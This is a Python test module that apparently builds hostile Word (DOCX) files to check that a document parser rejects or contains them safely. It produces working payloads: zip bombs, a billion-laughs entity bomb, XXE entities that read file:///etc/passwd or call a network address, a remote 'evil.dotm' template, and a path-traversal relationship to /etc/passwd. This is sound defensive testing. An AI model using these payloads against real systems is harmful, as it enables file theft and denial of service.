"""Word documents: bombs, lies about sizes, entities, and what Word itself may write."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from hostile.case import Document

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CALL = "Congress should fund open research."
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
RELATIONSHIPS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)


def paragraph(words: str) -> str:
    """A paragraph of plain words."""
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def document(body: str, *, before: str = "") -> str:
    """The main part of a document."""
    return f'{before}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'


def package(main: str | bytes, parts: Mapping[str, str | bytes] | None = None) -> bytes:
    """A Word document of a main part and others."""
    files = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": RELATIONSHIPS,
        "word/document.xml": main,
        **(parts or {}),
    }
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            # Always the same day: the clock must not show in the bytes.
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return made.getvalue()


GOOD = package(document(paragraph(CALL)))


def _lying(declared: int) -> bytes:
    """A package whose main part says that it is `declared` bytes long."""
    content = document(paragraph(CALL) * 5000).encode()
    data = bytearray(package(content))
    actual = struct.pack("<I", len(content))
    wrong = struct.pack("<I", declared)
    return bytes(data).replace(actual, wrong)


def _bomb(megabytes: int) -> bytes:
    """A package whose main part unpacks to so many megabytes of spaces."""
    return package(document(paragraph(CALL) + " " * (megabytes * 1_000_000)))


def _many_parts() -> bytes:
    """A package of 100,000 empty parts."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("word/document.xml", document(paragraph(CALL)))
        archive.writestr("_rels/.rels", RELATIONSHIPS)
        for number in range(100_000):
            archive.writestr(f"word/{number}.xml", b"")
    return made.getvalue()


def _entities() -> str:
    """The declaration of a billion laughs."""
    tenfold = (f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    return f"<!DOCTYPE x [<!ENTITY a0 'ha'>{''.join(tenfold)}]>"


def _external(address: str) -> str:
    return f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}">]>'


def _encrypted() -> bytes:
    """What Word writes for a document with a password, as far as anybody looks."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    return head + "EncryptedPackage".encode("utf-16-le") + b"\0" * 1000


def _wrong_checksum() -> bytes:
    crc = struct.pack("<I", zlib.crc32(document(paragraph(CALL)).encode()))
    return GOOD.replace(crc, b"\0\0\0\0")


def _nested(tag: str, depth: int) -> bytes:
    return package(document(f"<w:{tag}>" * depth + paragraph(CALL) + f"</w:{tag}>" * depth))


def _tables(depth: int) -> bytes:
    inner = paragraph(CALL)
    for _ in range(depth):
        inner = f"<w:tbl><w:tr><w:tc>{inner}</w:tc></w:tr></w:tbl>"
    return package(document(inner))


TRACKED = (
    '<w:p><w:r><w:t>Congress should fund </w:t></w:r><w:ins w:id="1"><w:r><w:t>open research.'
    '</w:t></w:r></w:ins><w:del w:id="2"><w:r><w:delText>SECRET</w:delText></w:r></w:del></w:p>'
)
HIDDEN = (
    "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>Agencies must hide SECRET data.</w:t></w:r></w:p>"
)
REMOTE = {
    "word/_rels/document.xml.rels": RELATIONSHIPS.replace(
        'Target="word/document.xml"',
        'TargetMode="External" Target="http://192.0.2.1/evil.dotm"',
    ).replace('/officeDocument"', '/attachedTemplate"'),
}
CLIMBING = RELATIONSHIPS.replace("word/document.xml", "../../../../etc/passwd")
SLOW = (None, "time-limit", "too-large", "memory-limit", "damaged-file")


def _case(
    name: str,
    data: bytes,
    *outcomes: str | None,
    quotes: tuple[str, ...] = (),
    absent: tuple[str, ...] = (),
    ending: str = "docx",
) -> Document:
    file = f"hostile.{ending}"
    return Document(name, "docx", file, lambda: data, outcomes or (None,), quotes, absent)


CASES = (
    _case("good", GOOD, quotes=(CALL,)),
    _case("empty", b"", "empty-file"),
    _case("no zip at all", b"Congress should act.", "damaged-file"),
    _case("truncated", GOOD[: len(GOOD) // 2], "damaged-file"),
    _case("without its last 30 bytes", GOOD[:-30], "damaged-file"),
    _case("a wrong checksum", _wrong_checksum(), "damaged-file"),
    _case(
        "no main part", package("", {}).replace(b"document.xml", b"documenX.xml"), "damaged-file"
    ),
    _case("torn XML", package(document(paragraph(CALL))[:-10]), "damaged-file"),
    _case("entity bomb", package(document("&a11;", before=_entities())), "damaged-file"),
    _case(
        "external entity, a file",
        package(document(paragraph("&e;" + CALL), before=_external("file:///etc/passwd"))),
        "damaged-file",
        absent=("root:",),
    ),
    _case(
        "external entity, the network",
        package(document(paragraph("&e;" + CALL), before=_external("http://192.0.2.1/x"))),
        "damaged-file",
    ),
    _case("a template on the network", package(document(paragraph(CALL)), REMOTE), quotes=(CALL,)),
    _case(
        "a main part outside the package",
        package(document(paragraph(CALL)), {"_rels/.rels": CLIMBING}),
        None,
        "damaged-file",
        absent=("root:",),
    ),
    _case("a size declared too small", _lying(100), "damaged-file"),
    _case("a size declared too large", _lying(90_000_000), "damaged-file", "too-large"),
    Document("zip bomb of 50 MB", "docx", "hostile.docx", lambda: _bomb(50), ("too-large",)),
    _case("tracked changes", package(document(TRACKED)), quotes=(CALL,), absent=("SECRET",)),
    _case("hidden text", package(document(paragraph(CALL) + HIDDEN)), absent=("SECRET",)),
    _case("encrypted", _encrypted(), "encrypted-file"),
    _case(
        "an old binary document", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "unknown-type"
    ),
    _case("20,000 nested runs", _nested("r", 20_000), *SLOW),
    _case("200 tables in each other", _tables(200), None, "damaged-file"),
    _case("control characters by number", package(document(paragraph("&#1;"))), "damaged-file"),
    _case(
        "a DOCX called text", package(document(paragraph(CALL) * 2)), quotes=(CALL,), ending="txt"
    ),
    _case("an empty zip called DOCX", b"PK\x05\x06" + b"\0" * 18, "damaged-file"),
    Document("100,000 parts", "docx", "hostile.docx", _many_parts, SLOW, heavy=True),
    Document(
        "zip bomb of 500 MB", "docx", "hostile.docx", lambda: _bomb(500), ("too-large",), heavy=True
    ),
    Document(
        "100,000 paragraphs",
        "docx",
        "hostile.docx",
        lambda: package(document(paragraph("It rained in May.") * 100_000)),
        SLOW,
        heavy=True,
    ),
    Document(
        "200,000 attributes",
        "docx",
        "hostile.docx",
        lambda: package(
            document(
                "<w:p " + " ".join(f'a{n}="1"' for n in range(200_000)) + "/>" + paragraph(CALL)
            )
        ),
        SLOW,
        heavy=True,
    ),
)
